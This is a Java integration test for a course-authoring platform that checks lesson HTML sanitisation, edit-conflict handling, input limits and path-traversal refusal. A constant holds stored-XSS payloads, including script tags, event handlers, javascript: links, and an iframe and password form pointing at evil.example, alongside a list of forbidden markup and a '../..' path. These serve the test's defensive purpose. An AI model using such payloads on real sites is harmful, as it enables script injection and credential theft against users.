package org.capacityacademy.authoring;

import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import jakarta.persistence.PersistenceContext;
import org.capacityacademy.TestAccounts;
import org.capacityacademy.TestCourses;
import org.capacityacademy.account.boundary.AccountService;
import org.capacityacademy.account.entity.Role;
import org.capacityacademy.authoring.drafts.boundary.AuthoringException;
import org.capacityacademy.authoring.drafts.boundary.Authorship;
import org.capacityacademy.authoring.drafts.boundary.DraftFile;
import org.capacityacademy.authoring.drafts.boundary.Drafts;
import org.capacityacademy.authoring.drafts.boundary.EditConflict;
import org.capacityacademy.authoring.drafts.boundary.FileEdit;
import org.capacityacademy.authoring.drafts.boundary.NotAnAuthor;
import org.capacityacademy.authoring.lessons.boundary.DraftLessons.LessonDraft;
import org.capacityacademy.authoring.lessons.boundary.DraftLessons;
import org.capacityacademy.authoring.lessons.control.LessonSource;
import org.capacityacademy.catalog.boundary.Catalog;
import org.capacityacademy.catalog.boundary.CatalogViews.LessonView;
import org.capacityacademy.catalog.entity.Course;
import org.capacityacademy.catalog.entity.Lesson;
import org.capacityacademy.courseformat.ContentException;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import java.util.List;
import java.util.UUID;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Lessons edited in a course's draft on the real server and database: sanitised, never silently overwritten, bounded. */
@ExtendWith(ArquillianExtension.class)
class LessonEditingIT {

    private static final String LESSON = "modules/05-norms/01-norms-from-existing-international-law.md";
    private static final String ATTACKS = """
            <script>alert('stored')</script>
            <p style="position:fixed;top:0">Styled <img src=x onerror=alert(1)></p>

            Read [the report](javascript:alert(1)) or <a href="https://www.un.org/disarmament/" onclick="alert(1)">the UN</a>.

            <iframe src="https://evil.example/"></iframe><style>body{display:none}</style>
            <form action="https://evil.example/"><input name="password"></form>
            <svg onload="alert(1)"><script>alert(2)</script></svg>
            """;

    @Inject
    DraftLessons lessons;

    @Inject
    Drafts drafts;

    @Inject
    Authorship authorship;

    @Inject
    AccountService accounts;

    @Inject
    Catalog catalog;

    @PersistenceContext
    EntityManager em;

    private String person(String name, Role role) {
        return TestAccounts.registered(accounts, name, role);
    }

    private String course(String author) {
        String code = "lessons-" + UUID.randomUUID().toString().substring(0, 8);
        drafts.start(author, code, TestCourses.filesOfTheCourse(code));
        return code;
    }

    @Test
    void scriptsHandlersAndOtherSchemesNeverReachTheStoredLesson() throws ContentException {
        String author = person("sanitising-author", Role.INSTRUCTOR);
        String course = course(author);
        LessonDraft draft = lessons.open(author, course, LESSON).orElseThrow();
        draft.lesson().getMarkdown().put("en", draft.lesson().getMarkdown().get("en") + "\n\n" + ATTACKS);
        lessons.save(author, course, LESSON, draft.lesson(), draft.version());
        String preview = lessons.preview(author, course, LESSON, "en").orElseThrow().lesson().bodyHtml();
        drafts.publish(author, course, false);

        Course published = em.createNamedQuery(Course.FIND_BY_CODE, Course.class).setParameter("code", course).getSingleResult();
        Lesson lesson = em.createNamedQuery(Lesson.FIND_BY_COURSE, Lesson.class).setParameter("course", published.getId())
                .getResultStream().filter(l -> l.getCode().equals("norms-international-law")).findFirst().orElseThrow();
        String stored = lesson.textIn("en").getBodyHtml();
        LessonView shown = catalog.lesson(course, "norms-international-law", "en").orElseThrow();
        for (String html : List.of(stored, shown.bodyHtml(), preview)) {
            String lower = html.toLowerCase();
            for (String forbidden : List.of("<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "<style",
                    "style=", "<form", "<input", "<svg", "<img", "alert(")) {
                assertFalse(lower.contains(forbidden), () -> forbidden + " is left in " + html);
            }
            assertTrue(html.contains("Styled"), "the text of a cleaned element stays");
            assertTrue(html.contains("<a href=\"https://www.un.org/disarmament/\" rel=\"nofollow noopener\">the UN</a>"), html);
            assertTrue(html.contains("Three points in paragraph 16"), "the rest of the lesson is untouched");
        }
        assertEquals(stored, shown.bodyHtml(), "stored clean, so shown as stored");
    }

    @Test
    void theSecondOfTwoConcurrentEditsIsAConflictAndTheFirstStays() throws ContentException {
        String author = person("first-author", Role.INSTRUCTOR);
        String colleague = person("second-author", Role.INSTRUCTOR);
        String administrator = person("authoring-admin", Role.ADMIN);
        String course = course(author);
        authorship.add(administrator, course, accounts.getByEmail(colleague).getId());

        LessonDraft mine = lessons.open(author, course, LESSON).orElseThrow();
        LessonDraft theirs = lessons.open(colleague, course, LESSON).orElseThrow();
        mine.lesson().getTitle().put("en", "Norms from international law (revised)");
        lessons.save(author, course, LESSON, mine.lesson(), mine.version());
        theirs.lesson().setMinutes(30);
        assertThrows(EditConflict.class, () -> lessons.save(colleague, course, LESSON, theirs.lesson(), theirs.version()));

        LessonDraft now = lessons.open(colleague, course, LESSON).orElseThrow();
        assertEquals("Norms from international law (revised)", now.lesson().getTitle().get("en"), "the first save stays");
        assertEquals(10, now.lesson().getMinutes(), "the second did not overwrite it");
        now.lesson().setMinutes(30);
        lessons.save(colleague, course, LESSON, now.lesson(), now.version());
        assertEquals(30, lessons.open(author, course, LESSON).orElseThrow().lesson().getMinutes(), "after reloading it saves");

        String stranger = person("not-an-author", Role.INSTRUCTOR);
        assertThrows(NotAnAuthor.class, () -> lessons.open(stranger, course, LESSON));
        assertThrows(NotAnAuthor.class, () -> lessons.save(stranger, course, LESSON, now.lesson(), now.version() + 1));
    }

    @Test
    void hugePastesEmptyTitlesAndImpossibleMinutesAreRefusedAndNothingIsStored() throws ContentException {
        String author = person("careful-author", Role.INSTRUCTOR);
        String course = course(author);
        LessonDraft draft = lessons.open(author, course, LESSON).orElseThrow();
        String before = drafts.draft(author, course).get(LESSON).content();

        LessonSource huge = LessonSource.parse(LESSON, before);
        huge.getMarkdown().put("zh", "数".repeat(DraftLessons.MARKDOWN_BYTES / 3 + 1));
        assertRefused("author.lesson.tooLong", () -> lessons.save(author, course, LESSON, huge, draft.version()));

        LessonSource untitled = LessonSource.parse(LESSON, before);
        untitled.getTitle().put("en", "  ");
        assertRefused("author.lesson.titleMissing", () -> lessons.save(author, course, LESSON, untitled, draft.version()));

        for (int minutes : new int[]{0, 241, -5}) {
            LessonSource timeless = LessonSource.parse(LESSON, before);
            timeless.setMinutes(minutes);
            assertRefused("author.lesson.minutesRange", () -> lessons.save(author, course, LESSON, timeless, draft.version()));
        }
        LessonSource elsewhere = LessonSource.parse(LESSON, before);
        elsewhere.getCovers().add("99");
        assertRefused("author.lesson.unknownSection", () -> lessons.save(author, course, LESSON, elsewhere, draft.version()));

        assertEquals(before, drafts.draft(author, course).get(LESSON).content(), "nothing of a refused save is stored");
        assertEquals(draft.version(), drafts.draft(author, course).get(LESSON).version());
        DraftFile stored = drafts.draft(author, course).get(LESSON);
        drafts.apply(author, course, List.of(FileEdit.update(stored, "no header, a file broken by hand")));
        assertThrows(ContentException.class, () -> lessons.open(author, course, LESSON), "shown as problems, not edited blindly");
        assertTrue(lessons.open(author, course, "modules/05-norms/../../course.yaml").isEmpty(), "only lesson files");
        assertTrue(lessons.open(author, course, "course.yaml").isEmpty(), "only lesson files");
    }

    private static void assertRefused(String key, Runnable save) {
        AuthoringException refused = assertThrows(AuthoringException.class, save::run);
        assertEquals(key, refused.getMessageKey());
    }
}
